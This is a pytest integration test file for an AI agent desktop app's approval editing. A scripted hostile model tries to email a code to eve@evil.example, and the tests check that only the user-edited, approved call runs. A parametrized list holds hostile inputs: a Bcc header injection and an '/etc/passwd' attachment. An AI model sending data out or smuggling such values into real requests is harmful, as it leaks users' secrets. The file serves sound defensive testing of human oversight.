"""Threats B and C, with a runtime of its own: a question that the user changes. What is shown last, and approved, is what runs."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from email import message_from_string

import pytest

from meshclaw_desktop.policy.model import Autonomy, Json
from meshclaw_desktop.wire import messages as m
from meshclaw_desktop.wire.codec import from_json
from meshclaw_desktop.wire.rows import ActivityDetail, Approval, TaskRow
from tests.integration.runtime_process import Client
from tests.integration.scripted_model import Says
from tests.integration.threats.scene import (
    HOSTILE_RUNTIME,
    Body,
    Scene,
    activity,
    ask,
    ended,
    lists,
    question,
    refused,
    results,
    rows_in,
    say,
    scene,
    sends,
)


@pytest.fixture(scope="module")
def stage() -> Iterator[Scene]:
    with scene(Autonomy.ASK, command=HOSTILE_RUNTIME) as made:
        yield made


def edit(client: Client, approval: Approval, **changes: Json) -> Approval:
    """What *Edit…* sends; the new question."""
    reply = client.request(lambda id: m.EditApproval(id, approval.id, approval.digest, changes))
    return from_json(Approval, reply)


def test_the_changed_message_is_the_one_that_leaves(stage: Scene, client: Client) -> None:
    """B01, B08, C01: the new question shows the whole new call, and exactly that leaves; the record holds both."""
    before = len(stage.sent())
    told: list[str] = []

    def listen(body: Body) -> Says:
        told.extend(results(body))
        return Says(text="Done.")

    stage.plays(sends("eve@evil.example", "Hello", "The code is 4417."), listen)
    task = ask(client)
    first = question(client, task)
    second = edit(client, first, to=["mei@corp.example"], body="No code in here.")
    assert client.until(m.ApprovalClosed).approval == first.id
    assert question(client, task) == second
    values = {one.name: one.value for one in second.fields}
    assert (values["to"], values["subject"], values["body"]) == (["mei@corp.example"], "Hello", "No code in here.")
    assert [one.origin for one in second.fields if one.name in ("to", "body")] == ["user", "user"]
    assert refused(client, lambda id: m.AnswerApproval(id, first.id, first.digest, True)) == "NoSuchThing"
    assert refused(client, lambda id: m.AnswerApproval(id, second.id, first.digest, True)) == "ApprovalRefused"
    listed = json.loads(stage.home.run("approvals", "--json").stdout)
    assert [(one["id"], one["digest"]) for one in listed] == [(second.id, second.digest)]
    assert stage.home.run("approve", second.id).returncode == 0
    assert ended(client, task).outcome == "done"
    [text] = stage.sent()[before:]
    letter = message_from_string(text)
    assert (letter["To"], str(letter.get_payload()).strip()) == ("mei@corp.example", "No code in here.")
    assert "The user changed to and body" in told[-1]
    assert "mei@" not in told[-1]
    rows = [row for row in activity(client, task.id) if row.tool == "send"]
    assert [(row.outcome, row.approval) for row in rows] == [
        ("waiting", first.id), ("edited", first.id), ("waiting", second.id), ("running", second.id), ("done", second.id),
    ]  # fmt: skip
    detail = client.row(ActivityDetail, lambda id: m.ShowActivity(id, rows[-1].seq))
    changed = [(one.name, one.before, one.after) for one in detail.edits]
    assert changed[0] == ("to", ["eve@evil.example"], ["mei@corp.example"])
    assert changed[1][0] == "body"
    assert (detail.shown_digest, detail.ran_digest) == (second.digest, second.digest)


@pytest.mark.parametrize(
    "changes",
    [
        {"to": ["not an address"]},
        {"to": ["mei@corp.example\r\nBcc: eve@evil.example"]},
        {"to": []},
        {"subject": "a\nb"},
        {"attachments": ["/etc/passwd"]},
        {"tool": "delete"},
        {"connector": "bad"},
        {"task": "t0"},
        {"digest": "0"},
        {},
    ],
    ids=str,
)
def test_a_change_that_cannot_be_leaves_the_question_as_it_was(
    stage: Scene, client: Client, changes: dict[str, Json]
) -> None:
    """C03, H06: only values of the call's own arguments can be changed, to what the connector takes."""
    before = len(stage.sent())
    stage.plays(sends("eve@evil.example"))
    task = ask(client)
    first = question(client, task)
    assert refused(client, lambda id: m.EditApproval(id, first.id, first.digest, changes))
    assert client.rows(Approval, m.ListApprovals) == [first]
    assert not [fact for fact in client.facts if isinstance(fact, m.ApprovalClosed)]
    say(client, first, False)
    ended(client, task)
    assert len(stage.sent()) == before


def test_a_batch_is_narrowed_and_never_widened(stage: Scene, client: Client) -> None:
    """B04, C03: of the things of a batch some can be taken away; others cannot be put in."""

    def archives(body: Body) -> Says:
        return Says(calls=[("email_archive", {"ids": [row[0] for row in rows_in(body)[:3]]})])

    stage.plays(lists(5), archives)
    task = ask(client)
    first = question(client, task)
    ids = [item.id for item in first.items]
    assert refused(client, lambda id: m.EditApproval(id, first.id, first.digest, {"ids": [*ids, "999"]}))
    assert refused(client, lambda id: m.EditApproval(id, first.id, first.digest, {"ids": ["999"]}))
    second = edit(client, first, ids=ids[:1])
    assert [item.id for item in second.items] == ids[:1]
    before = stage.in_archive()
    say(client, second, True)
    ended(client, task)
    assert len(stage.in_archive() - before) == 1


@pytest.mark.parametrize("seed", range(6))
def test_answers_that_race_a_change_run_the_old_call_or_the_new_never_both_and_never_a_mixture(
    stage: Scene, client: Client, seed: int
) -> None:
    """C01, C02, C05: a yes to the first question and a change of it at the same moment; one of them counts."""
    chance = random.Random(seed)
    before = len(stage.sent())
    stage.plays(sends("old@other.example", "old", "old"))
    task = ask(client)
    first = question(client, task)

    def act(number: int) -> str:
        with stage.home.client(last_seq=None) as one:
            if number % 3 == 0:
                changes = {"to": ["new@other.example"], "subject": "new", "body": "new"}
                return "edit " + refused(one, lambda id: m.EditApproval(id, first.id, first.digest, changes))
            return "answer " + refused(one, lambda id: m.AnswerApproval(id, first.id, first.digest, True))

    numbers = [*range(12)]
    chance.shuffle(numbers)
    with ThreadPoolExecutor(12) as hands:
        outcomes = list(hands.map(act, numbers))
    won = [one for one in outcomes if one.endswith(" ")]
    assert len(won) == 1, outcomes
    if won == ["edit "]:
        [second] = client.rows(Approval, m.ListApprovals)
        assert len(stage.sent()) == before
        say(client, second, True)
    ended(client, task)
    [text] = stage.sent()[before:]
    letter = message_from_string(text)
    word = "new" if won == ["edit "] else "old"
    assert (letter["To"], letter["Subject"], str(letter.get_payload()).strip()) == (f"{word}@other.example", word, word)


def test_a_parked_question_is_changed_and_its_copy_runs_after_a_restart() -> None:
    """C01, C12: what was parked and changed survives a kill as it was changed."""
    with scene(Autonomy.ASK, command=HOSTILE_RUNTIME) as stage:
        with stage.watching(Autonomy.ASK) as client:
            stage.plays(sends("eve@evil.example", "Night", "From the night."))
            task = client.row(TaskRow, lambda id: m.Ask(id, "At night, look after my mail"))
            first = question(client, task)
            ended(client, task)
            second = edit(client, first, to=["mei@corp.example"])
            assert (second.deadline_at, second.routine) == (None, first.routine)
        stage.home.kill()
        stage.home.start()
        with stage.home.client() as client:
            assert client.rows(Approval, m.ListApprovals) == [second]
            assert refused(client, lambda id: m.AnswerApproval(id, first.id, first.digest, True)) == "NoSuchThing"
            assert stage.home.run("edit", second.id, "body=Good morning.", "subject=Day").returncode == 0
            [third] = client.rows(Approval, m.ListApprovals)
            say(client, third, True)
            client.until(m.Activity, lambda row: row.tool == "send" and row.outcome == "done")
        [text] = stage.sent()
        letter = message_from_string(text)
        assert (letter["To"], letter["Subject"]) == ("mei@corp.example", "Day")
